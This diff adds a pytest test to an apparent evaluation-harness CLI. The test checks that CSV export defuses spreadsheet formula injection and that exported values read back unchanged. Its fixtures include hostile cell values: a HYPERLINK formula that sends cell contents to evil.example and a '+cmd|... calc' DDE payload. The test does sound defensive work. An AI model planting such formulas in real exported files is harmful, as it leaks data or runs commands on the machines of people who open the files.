@@ -92,3 +92,37 @@ def test_compare_over_a_results_glob_leaves_out_the_readme_with_a_note(results: 
         assert f"note: left out {results / 'README.md'}: not run directories (no manifest.json)" in err
     code, err = cli(capsys, "compare", "--before", "old", "--after", "new", "--results", str(results / "README.md"))
     assert code == 2 and err.startswith("error: ") and "README.md" in err and err.count("\n") == 1
+
+
+def test_exported_csv_defuses_formulas_and_reads_back_exactly(tmp_path: Path, capsys, monkeypatch) -> None:
+    # security review finding 9: a cluster '=HYPERLINK(...)' went into items.csv as a live formula
+    from harness.export import item_table
+    from harness.run.store import write_run
+    from harness.table import items_from_file
+
+    hostile = {"model": "@SUM(1+1)", "suite": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+               "cluster": "+cmd|' /C calc'!A0", "item_id": "-2+3", "error": "'=already quoted"}
+    runs = []
+    for model in (hostile["model"], "new"):
+        records = [{"run_id": f"run-{i}", "model": model, "suite": hostile["suite"] if i % 2 else "plain",
+                    "suite_version": "1.0.0", "category": "targeted" if i % 2 else "untargeted",
+                    "item_id": hostile["item_id"] if i == 1 else f"item-{i}", "item_hash": f"h{i}", "sample": 0,
+                    "score": float(i % 3 == 0), "error": hostile["error"] if i == 3 else None,
+                    "cluster": hostile["cluster"] if i < 4 else "-0.5", "response": "x", "capability": "coding",
+                    "correct": i % 3 == 0, "extracted": None, "latency_s": 0.1, "usage": {},
+                    "started_at": "2025-06-01T12:00:00Z"} for i in range(8)]
+        runs.append(write_run(tmp_path / f"run-{len(runs)}", {"models": [{"label": model}]}, records))
+    monkeypatch.chdir(tmp_path)
+    assert cli(capsys, "export", "--results", *map(str, runs), "--out", "items.csv")[0] == 0
+    import csv
+
+    with open(tmp_path / "items.csv", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.5"]
+    assert not live, live  # every formula starts with an apostrophe; a plain number stays a number
+    assert "'" + hostile["suite"] in cells and "''=already quoted" in cells
+    back = items_from_file(tmp_path / "items.csv")  # the reader of `compare --items`
+    exported = item_table(runs)
+    for column in ("model", "suite", "cluster", "item_id", "error"):
+        assert back[column].fillna("").astype(str).tolist() == exported[column].fillna("").astype(str).tolist()
+    assert set(back["suite"]) == {hostile["suite"], "plain"} and hostile["cluster"] in set(back["cluster"])
